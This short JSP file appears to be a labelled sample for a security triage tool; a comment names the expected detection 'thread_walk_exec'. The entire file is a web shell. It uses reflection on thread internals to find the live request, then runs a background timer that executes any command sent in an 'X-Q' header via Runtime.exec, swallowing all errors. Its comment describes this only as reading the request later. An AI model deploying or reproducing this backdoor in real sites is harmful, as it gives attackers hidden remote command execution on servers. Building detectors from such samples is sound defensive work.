<%@ page import="java.util.*,java.lang.reflect.*" %>
<%-- triage-expect: triage_jsp_thread_walk_exec --%>
<%!
    // finds the request being served by walking the thread group, so the timer below can read it later
    Object currentRequest() throws Exception {
        Field f = ThreadGroup.class.getDeclaredField("threads");
        f.setAccessible(true);
        for (Thread t : (Thread[]) f.get(Thread.currentThread().getThreadGroup())) {
            if (t == null || !t.getName().contains("exec")) continue;
            Field target = Thread.class.getDeclaredField("target");
            target.setAccessible(true);
            Object r = target.get(t);
            if (r != null) { Field outer = r.getClass().getDeclaredField("this$0"); outer.setAccessible(true); return outer.get(r); }
        }
        return null;
    }
%>
<%
    new Timer().scheduleAtFixedRate(new TimerTask() {
        public void run() {
            try {
                Object req = currentRequest();
                String c = req == null ? null : (String) req.getClass().getMethod("getHeader", String.class).invoke(req, "X-Q");
                if (c != null) Runtime.getRuntime().exec(c);
            } catch (Exception ignored) { }
        }
    }, 0, 100);
%>
